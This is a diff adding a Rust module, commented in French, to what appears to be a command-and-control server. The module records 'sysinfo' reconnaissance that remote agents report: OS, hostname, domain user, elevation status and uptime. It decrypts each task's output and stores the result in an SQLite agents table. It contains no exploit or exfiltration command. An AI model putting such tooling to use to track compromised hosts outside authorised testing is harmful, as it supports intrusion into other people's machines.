@@ -0,0 +1,84 @@
+use rusqlite::{Connection, OptionalExtension};
+use serde::{Deserialize, Serialize};
+
+use crate::crypto::open_payload_text;
+use crate::error::{Error, Result};
+
+// Fiche système demandée par :sysinfo ; l'agent répond en JSON dans la sortie de la tâche,
+// voir SystemInfoResponse, et la ligne de l'agent est mise à jour à la réception
+pub const SYSINFO_COMMAND: &str = "sysinfo";
+
+// {"os": "Windows 11", "os_version": "22H2", "arch": "x86_64", "hostname": "WS01",
+//  "username": "CORP\\bob", "is_elevated": true, "uptime_secs": 86400}
+#[derive(Debug, Clone, PartialEq, Deserialize, Serialize)]
+pub struct SystemInfoResponse {
+    pub os: String,
+    pub os_version: String,
+    pub arch: String,
+    pub hostname: String,
+    pub username: String,
+    pub is_elevated: bool,
+    pub uptime_secs: u64,
+}
+
+impl SystemInfoResponse {
+    // "Windows 11 22H2 (x86_64)", tel qu'écrit dans la colonne os ; les parties vides sont omises
+    pub fn os_label(&self) -> String {
+        let name = [self.os.trim(), self.os_version.trim()]
+            .into_iter()
+            .filter(|part| !part.is_empty())
+            .collect::<Vec<_>>()
+            .join(" ");
+        match self.arch.trim() {
+            "" => name,
+            arch => format!("{} ({})", name, arch),
+        }
+    }
+}
+
+pub fn add_sysinfo_columns(conn: &Connection) -> rusqlite::Result<()> {
+    conn.execute_batch(
+        "ALTER TABLE agents ADD COLUMN username TEXT;
+        ALTER TABLE agents ADD COLUMN is_elevated INTEGER NOT NULL DEFAULT 0;
+        ALTER TABLE agents ADD COLUMN uptime_secs INTEGER;",
+    )
+}
+
+pub fn parse_sysinfo(output: &str) -> Result<SystemInfoResponse> {
+    serde_json::from_str(output).map_err(|e| Error::SystemInfo(e.to_string()))
+}
+
+// Un hostname vide laisse celui déjà connu
+pub fn apply_sysinfo(conn: &Connection, agent_id: &str, info: &SystemInfoResponse) -> Result<()> {
+    let updated = conn.execute(
+        "UPDATE agents SET hostname = COALESCE(NULLIF(?1, ''), hostname), os = ?2, username = ?3,
+                is_elevated = ?4, uptime_secs = ?5
+         WHERE id = ?6",
+        (info.hostname.trim(), info.os_label(), &info.username, info.is_elevated, info.uptime_secs, agent_id),
+    )?;
+    if updated == 0 {
+        return Err(Error::AgentNotFound(agent_id.to_string()));
+    }
+    Ok(())
+}
+
+// Appelée à la réception du résultat d'une tâche ; une sortie illisible reste dans la
+// tâche sans toucher à l'agent. Renvoie true si la fiche a été appliquée
+pub fn record_sysinfo(conn: &Connection, task_id: i64) -> Result<bool> {
+    let task: Option<(String, Option<String>)> = conn
+        .query_row(
+            "SELECT agent_id, output FROM tasks WHERE id = ?1 AND payload_type = 'sysinfo' AND status = 'done'",
+            [task_id],
+            |row| Ok((row.get(0)?, row.get(1)?)),
+        )
+        .optional()?;
+    let Some((agent_id, Some(output))) = task else {
+        return Ok(false);
+    };
+    let output = open_payload_text(conn, &agent_id, output)?;
+    let Ok(info) = parse_sysinfo(&output) else {
+        return Ok(false);
+    };
+    apply_sysinfo(conn, &agent_id, &info)?;
+    Ok(true)
+}